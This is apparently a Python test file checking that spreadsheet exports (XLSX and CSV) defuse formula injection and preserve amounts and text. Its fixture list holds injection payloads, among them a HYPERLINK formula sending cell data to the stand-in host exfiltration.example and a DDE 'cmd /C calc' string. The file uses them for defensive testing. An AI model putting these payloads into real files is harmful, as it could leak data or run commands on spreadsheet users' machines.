"""Files reporting staff open in a spreadsheet: text stays text, nothing runs.

A desk officer's title reaches the overlaps file. Beginning with ``=``, it
would be a formula in the reporting officer's spreadsheet (CSV or formula
injection). XLSX keeps it as text, exactly; CSV writes it after an apostrophe.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

from openpyxl import load_workbook

from shared.reporting.exports import to_csv, to_xlsx
from shared.reporting.sheets import Sheet

TITLES = [
    '=HYPERLINK("https://exfiltration.example/?"&A1,"Détails")',
    "+33 1 40 07 60 60",
    "-Formation",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tIndenté",
    "\uff1d1+1",  # full-width ＝: some locales and input methods read it as =
    "\ufe66HYPERLINK(A1)",  # small form ﹦
    "\uff0b33 1 40",
    "Formation = réussite",  # an equals sign further on is plain text
    "Stage de formation",
]


def _sheet(titles: list[str]) -> Sheet:
    rows = [[title, Decimal("1200.50"), index] for index, title in enumerate(titles)]
    return Sheet(
        name="overlaps",
        columns=["title", "budget", "rank"],
        rows=rows,
        counting_rule={"fr": "=règle", "en": "rule"},
        as_of={"police": {"position": 3, "recorded_at": None}},
        filters={"country": "VN"},
    )


def test_xlsx_keeps_every_text_as_text_never_a_formula() -> None:
    workbook = load_workbook(io.BytesIO(to_xlsx(_sheet(TITLES))))
    data = workbook["overlaps"]

    cells = [row[0] for row in data.iter_rows(min_row=2)]
    assert [cell.value for cell in cells] == TITLES
    assert {cell.data_type for cell in cells} == {"s"}
    budgets = {row[1].value for row in data.iter_rows(min_row=2)}
    assert budgets == {1200.5}  # numbers stay numbers
    about = {row[0].value: row[1] for row in workbook["about"].iter_rows()}
    assert (about["counting_rule.fr"].value, about["counting_rule.fr"].data_type) == ("=règle", "s")


def test_csv_defuses_text_a_spreadsheet_would_run() -> None:
    text = to_csv(_sheet(TITLES)).decode("utf-8-sig")
    titles = [row["title"] for row in csv.DictReader(io.StringIO(text))]

    assert titles[:8] == [f"'{title}" for title in TITLES[:8]]
    assert titles[8:] == TITLES[8:]  # the others are written as they are


def test_xlsx_writes_what_xml_cannot_hold_as_a_replacement_character() -> None:
    # Commands refuse control characters and noncharacters; a view may hold older text
    # (U+FFFE and U+FFFF passed the commands' checks until 2026-12-07): the file is still
    # made. Raw, they made a file no spreadsheet could open (probe 7).
    titles = ["Sta\x00ge\x01", "ligne\nsuite", "Mission A\uffffB", "Reyk\ufffejavik"]
    workbook = load_workbook(io.BytesIO(to_xlsx(_sheet(titles))))

    values = [row[0].value for row in workbook["overlaps"].iter_rows(min_row=2)]
    assert values == ["Sta\ufffdge\ufffd", "ligne\nsuite", "Mission A\ufffdB", "Reyk\ufffdjavik"]


def test_xlsx_holds_every_row_in_order_below_its_header() -> None:
    titles = [f"Mission {index}" for index in range(3000)]

    workbook = load_workbook(io.BytesIO(to_xlsx(_sheet(titles))))

    rows = list(workbook["overlaps"].iter_rows(values_only=True))
    assert rows[0] == ("title", "budget", "rank")
    assert [(row[0], row[2]) for row in rows[1:]] == [(t, i) for i, t in enumerate(titles)]
    assert len(list(workbook["about"].iter_rows())) >= 3


def _amounts(amounts: list[Decimal]) -> Sheet:
    return Sheet(
        name="figures",
        columns=["budget"],
        rows=[[amount] for amount in amounts],
        counting_rule={"fr": "règle", "en": "rule"},
        as_of={"police": {"position": 3, "recorded_at": None}},
        filters={},
    )


def test_xlsx_shows_every_decimal_of_an_amount_in_its_currencys_form() -> None:
    """A fixed ``#,##0.00`` showed a dinar's 1.255 as 1.26 and a CFA franc amount with
    two decimals it has not."""
    amounts = [Decimal("1.255"), Decimal("1500000"), Decimal("1200.50"), Decimal("0.0001")]
    data = load_workbook(io.BytesIO(to_xlsx(_amounts(amounts))))["figures"]

    formats = [row[0].number_format for row in data.iter_rows(min_row=2)]
    assert formats == ["#,##0.000", "#,##0", "#,##0.00", "#,##0.0000"]


def test_xlsx_writes_an_amount_a_spreadsheet_number_would_round_as_its_exact_text() -> None:
    """Past 15 significant digits a spreadsheet's number (a double) rounds:
    123456789012345.67 EUR was written as 123456789012345.7."""
    amounts = [Decimal("123456789012345.67"), Decimal("1999999999999999.999"), Decimal("1.255")]
    data = load_workbook(io.BytesIO(to_xlsx(_amounts(amounts))))["figures"]

    cells = [row[0] for row in data.iter_rows(min_row=2)]
    assert [cell.value for cell in cells] == ["123456789012345.67", "1999999999999999.999", 1.255]
    assert [cell.data_type for cell in cells] == ["s", "s", "n"]
